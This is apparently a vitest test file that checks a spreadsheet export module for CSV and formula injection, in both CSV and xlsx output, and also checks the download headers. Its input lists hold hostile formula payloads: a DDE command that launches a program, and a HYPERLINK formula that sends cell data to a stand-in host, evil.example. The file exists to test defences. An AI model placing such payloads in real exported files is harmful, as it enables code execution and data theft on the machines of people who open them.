import { parse } from 'csv-parse/sync';
import excel from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Cell, csvText, tableResponse, type WholeSheet, xlsxStream } from '#door/table-file';
import { ODD_CHARACTERS, SQL_AND_HTML, wellFormed } from './hostile';
import { SEED, Tally, within } from './tally';

/** What spreadsheet programs take for a formula, with the leads and white space that hide it (OWASP, CSV injection). */
const FORMULAS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'].flatMap((lead) =>
  [`cmd|' /C calc'!A0`, 'HYPERLINK("https://evil.example?"&A1)', 'SUM(1+1)*2', '1'].map(
    (rest) => lead + rest,
  ),
);
const HIDDEN = [' =1+1', '";=1+1', '"\n=1+1', "','=1", '\u00a0=1', '\uFEFF=1', '"=1"', "'=1"];
const EVALUATED = /^\s*[=+\-@\t\r＝＋－＠]/;

const CLASSES = {
  'formula leads': FORMULAS,
  'hidden formulas, quotes, line ends': HIDDEN,
  'SQL, HTML, paths, templates': [...SQL_AND_HTML],
  'odd characters': [...ODD_CHARACTERS],
  'arbitrary text': fc.sample(fc.string({ unit: 'grapheme', maxLength: 40 }), { seed: SEED, numRuns: 200 }),
};

const sheetOf = (texts: readonly string[]): WholeSheet => ({
  name: '=1+1',
  header: ['=名称', '值'],
  rows: texts.map((text, at): Cell[] => [text, at]),
});

/** What no XML may hold becomes another character or none; line ends become one kind. */
const storable = (text: string) => text.replace(/\r\n?/g, '\n').replace(/[\p{Cc}\p{Cs}\p{Cn}\uFFFD]/gu, '');
const unquoted = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

const tally = new Tally();

describe.each(Object.entries(CLASSES))('%s', (input, texts) => {
  it('in CSV: no cell begins a formula, no text breaks out of its cell', async () => {
    const written = await within(() => csvText(sheetOf(texts)), input);
    const rows: string[][] = parse(written, {
      bom: true,
      record_delimiter: '\r\n',
      relax_column_count: false,
    });
    expect(rows).toHaveLength(texts.length + 1);
    for (const [at, text] of texts.entries()) {
      const [cell = '', number] = rows[at + 1]!;
      expect(number).toBe(String(at));
      expect(cell).not.toMatch(EVALUATED);
      expect([wellFormed(text), `'${wellFormed(text)}`]).toContain(cell);
      tally.add(input, 'CSV cell', 'accepted');
    }
  });

  it('in xlsx: every text is a string to the program', async () => {
    const bytes = await within(() => new Response(xlsxStream(sheetOf(texts))).arrayBuffer(), input);
    const book = new excel.Workbook();
    await book.xlsx.load(bytes);
    const page = book.worksheets[0]!;
    for (const [at, text] of texts.entries()) {
      const cell = page.getCell(at + 2, 1);
      expect([excel.ValueType.String, excel.ValueType.Null]).toContain(cell.type);
      expect(cell.formula).toBeUndefined();
      const value = typeof cell.value === 'string' ? cell.value : '';
      expect(value).not.toMatch(EVALUATED);
      expect(storable(unquoted(value))).toBe(storable(unquoted(text)));
      tally.add(input, 'xlsx cell', 'accepted');
    }
  });
});

it('a file is named by us, handed over as an attachment and taken for nothing else', () => {
  const { headers } = tableResponse(sheetOf(['x']), 'csv', 'records');
  expect(headers.get('content-disposition')).toBe('attachment; filename="records.csv"');
  expect(headers.get('x-content-type-options')).toBe('nosniff');
});

it('the table of docs/security.md is what was tried', () => tally.expectInDocument('exports'));
